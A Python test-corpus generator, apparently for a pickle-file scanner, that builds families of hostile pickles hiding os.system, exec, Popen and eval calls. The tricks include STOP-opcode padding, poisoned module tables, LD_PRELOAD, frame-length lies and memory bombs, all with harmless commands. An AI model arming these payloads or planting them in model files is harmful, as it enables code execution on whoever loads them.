"""Hostile by shape: the same harmless call, written so that a careless reader loses it."""

from __future__ import annotations

import pickle
import struct
from typing import Any

from assemble import (
    Append,
    Build,
    Call,
    Put,
    Raw,
    Then,
    assemble,
    call,
    expression,
    name,
    shell,
    short,
)

SYSTEM = name("os.system")
TRUE = short("true") + b"\x85R"
P2, P4 = b"\x80\x02", b"\x80\x04"
GLOBAL = b"cos\nsystem\n"
RUN = GLOBAL + TRUE


class Payload:
    """Dumping this writes a call of `os.system`; loading it is nobody's business here."""

    def __reduce__(self) -> tuple[Any, ...]:
        import os

        return os.system, ("true",)


class EvalPayload:
    """The same with `eval`."""

    def __reduce__(self) -> tuple[Any, ...]:
        return eval, ("print('apart')",)


def _frame(body: bytes, length: int | None = None) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body) if length is None else length) + body


def _protocols() -> list[bytes]:
    every = [pickle.dumps(Payload(), number) for number in range(6)]
    every += [pickle.dumps([EvalPayload(), 1.5], number) for number in range(6)]
    every += [pickle.dumps({"w": [0.1] * 50, "x": Payload()}, number) for number in (2, 4)]
    return every


def _build() -> list[bytes]:
    """BUILD as setattr: slots, `__setstate__`, `__class__`, smuggled names."""
    prod = name("numpy.prod")
    slots = [
        Then(
            Build(prod, (None, {"a": "os"})),
            Then(
                Build(prod, (None, {"b": "system"})),
                Call(Raw(b"cnumpy\nprod.a\ncnumpy\nprod.b\n\x93"), ("true",)),
            ),
        ),
        Then(
            Build(prod, (None, name("sys.modules"))), Call(name("numpy:prod.os.system"), ("true",))
        ),
        Build(Build(call("collections.OrderedDict"), (None, {"__setstate__": SYSTEM})), "true"),
        Build(
            Build(call("torch.nn.modules.module.Module"), (None, {"__setstate__": SYSTEM})), "true"
        ),
        Build(call("types.SimpleNamespace"), {"__class__": name("subprocess.Popen")}),
        Build(name("collections.OrderedDict"), (None, {"__init__": SYSTEM})),
        Build(name("builtins.object"), (None, {"__reduce__": name("builtins.exec")})),
        Build(name("json.decoder"), (None, {"scanstring": SYSTEM})),
        Build(name("torch.load"), (None, {"__code__": call("marshal.loads", b"N")})),
        Build(name("numpy.ndarray"), {"__array_finalize__": name("builtins.eval")}),
    ]
    return [assemble(item, "binary", 4) for item in slots]


def _modules() -> list[bytes]:
    """Poisoned tables: sys.modules, builtins, the environment, the import path."""
    items = [
        Put(name("sys.modules"), "json", name("os.system")),
        Put(name("builtins.__dict__"), "print", name("os.system")),
        Put(name("os.environ"), "LD_PRELOAD", "/tmp/redteam-none.so"),
        Append(name("sys.path"), "/tmp/redteam-none"),
        Append(name("sys.meta_path"), SYSTEM),
        Append(name("sys.path_hooks"), SYSTEM),
        Put(name("copyreg.dispatch_table"), name("builtins.int"), SYSTEM),
        Put(name("numpy.__builtins__"), "len", name("os.system")),
        Put(name("torch.nn.functional.__dict__"), "relu", name("builtins.eval")),
        Call(call("builtins:dict.get", name("numpy.__builtins__"), "exec"), ("print('apart')",)),
        Call(call("builtins:dict.__getitem__", name("sys.modules"), "os"), ()),
        Put(name("collections.OrderedDict.__init__.__globals__"), "x", SYSTEM),
        Append(name("warnings.filters"), SYSTEM),
    ]
    return [assemble(item, "binary", 4) for item in items]


def _construction() -> list[bytes]:
    popen = b"csubprocess\nPopen\n"
    return [
        b"(Vtrue\nios\nsystem\n.",
        b"(" + GLOBAL + b"Vtrue\no.",
        b"(Vprint('apart')\nibuiltins\nexec\n.",
        P2 + b"(" + popen + short("true") + b"o.",
        P2 + popen + short("true") + b"\x85\x81.",
        P4 + popen + short("true") + b"\x85}\x92.",
        P4 + b"cctypes\nCDLL\n)}" + short("name") + short("/tmp/redteam-none") + b"s\x92.",
        b"(S'true'\nios\nsystem\n0(lp0\n.",
        P2 + b"((" + GLOBAL + short("true") + b"o1N.",
        P2 + b"ccopyreg\n__newobj__\n" + popen + short("true") + b"\x86R.",
        P4 + b"ccopyreg\n__newobj_ex__\n" + popen + b")}\x87R.",
        P2 + b"ccopyreg\n__reduce_ex__\n" + GLOBAL + b"K\x02\x86R.",
    ]


def _noise() -> list[bytes]:
    return [
        P2 + b"N20" * 40 + RUN + b"0N.",
        P2 + GLOBAL + b"2" * 9 + TRUE + b".",
        P2 + b"(((((1N0" + RUN + b".",
        P2 + RUN + b"0]q\x00.",
        P2 + b"]" * 3000 + RUN + b".",
        P2 + (b"X\x03\x00\x00\x00abc0") * 3000 + RUN + b".",
        P2
        + b"(K\x01K\x02K\x03t0"
        + GLOBAL
        + b"2("
        + short("a")
        + b"10"
        + short("true")
        + b"\x85R.",
        P4 + b"(" * 2000 + RUN + b"0" + b"1" * 2000 + b"N.",
        P2 + short("z" * 70000) + b"0" + RUN + b".",
        b"\x80\x02\x80\x04\x80\x03" + RUN + b".",
    ]


def _after_stop() -> list[bytes]:
    clean = pickle.dumps({"epoch": 3, "loss": 0.5}, 2)
    evil = shell("binary")
    return [
        clean + evil,
        clean + clean + clean + shell("stack"),
        b"N." + evil,
        pickle.dumps(0) + shell("text"),
        clean * 300 + evil,
    ]


def _broken() -> list[bytes]:
    """Opcodes after the call that no reader can follow: the call has long been made."""
    head = P2 + RUN
    return [
        head,
        head + b"0",
        head + b"\xff\xfe\xfd",
        head + b"X\xff\xff\xff\x7fabc",
        head + b"\x8e\xff\xff\xff\xff\xff\xff\xff\x7f",
        head + b"0h\x63.",
        head + b"I not a number\n.",
        head + b"cno_such\n",
        head + b"000000.",
        shell("stack")[:-1],
        head + b"\x80\x09.",
        P4 + _frame(short("os") + short("system") + b"\x93" + short("true") + b"\x85R"),
        head + b"t",
        pickle.dumps({"model": [1, 2, Payload()]}, 4)[:-2],
    ]


def _frames() -> list[bytes]:
    body = short("os") + short("system") + b"\x93" + TRUE + b"."
    return [
        P4 + _frame(body),
        P4 + _frame(body, 1),
        P4 + _frame(b"", 0) * 50 + _frame(body),
        P4 + _frame(short("os")) + _frame(body[4:]),
        P4 + _frame(_frame(body)),
        P4 + short("os") + _frame(short("system") + b"\x93") + TRUE + b".",
        b"\x80\x05" + _frame(body, len(body) - 1),
    ]


def _persistent() -> list[bytes]:
    return [
        P2
        + b"("
        + short("storage")
        + GLOBAL
        + short("0")
        + short("cpu")
        + b"K\x01tQ0"
        + RUN
        + b".",
        b"Pstorage\n0" + RUN + b".",
        P2 + RUN + b"Q.",
        P2 + b"(" + short("module") + GLOBAL + short("src") + b"tQ" + TRUE + b".",
    ]


def _buffers() -> list[bytes]:
    return [
        b"\x80\x05\x97\x980" + RUN + b".",
        b"\x80\x05\x96\x04\x00\x00\x00\x00\x00\x00\x00abcd0" + RUN + b".",
        b"\x80\x05" + RUN + b"\x97\x86.",
        b"\x80\x05(\x90" + RUN + b"\x91.",
        b"\x80\x05\x8f(" + RUN + b"\x90.",
    ]


def _exhaust() -> list[bytes]:
    """Memory and time bombs: the call is `bytearray` or the memo itself."""
    doubling = b"".join(b"h\x00h\x00\x86q\x000" for _ in range(60))
    return [
        P2 + b"Nr\xff\xff\xff\x7f.",
        P2 + expression(call("builtins.bytearray", 1 << 40), "binary") + b".",
        P2 + b"Nq\x000" + doubling + b"h\x00cbuiltins\nrepr\nh\x00\x85R.",
        P2 + expression(call("builtins.list", call("builtins.range", 1 << 50)), "binary") + b".",
    ]


def _dormant() -> list[bytes]:
    """The call stands in the file, yet a plain load stops, or never comes, before it."""
    clean, evil = pickle.dumps({"epoch": 3, "loss": 0.5}, 2), shell("binary")
    body = short("os") + short("system") + b"\x93" + TRUE + b"."
    return [
        clean + b"\n\n" + evil,
        clean + b"\x00" * 512 + evil,
        clean + b"not a pickle at all " * 20 + evil,
        clean + b"\x80\x05\x95\xff\xff\xff\xff\xff\xff\xff\xff" + evil,
        P2 + b"c\xc3\xa9\nx\n0" + RUN + b".",
        b"S'unquoted\n0" + RUN + b".",
        P4 + _frame(body, len(body) + 5000),
        P2 + b"\x82\x07" + TRUE + b".",
    ]


FAMILIES: dict[str, list[bytes]] = {
    "dormant-stream": _dormant(),
    "protocols": _protocols(),
    "build-setattr": _build(),
    "poisoned-tables": _modules(),
    "inst-obj-newobj": _construction(),
    "stack-noise": _noise(),
    "after-stop": _after_stop(),
    "broken-after-call": _broken(),
    "frame-lies": _frames(),
    "persistent-id": _persistent(),
    "buffers": _buffers(),
    "exhaust": _exhaust(),
}
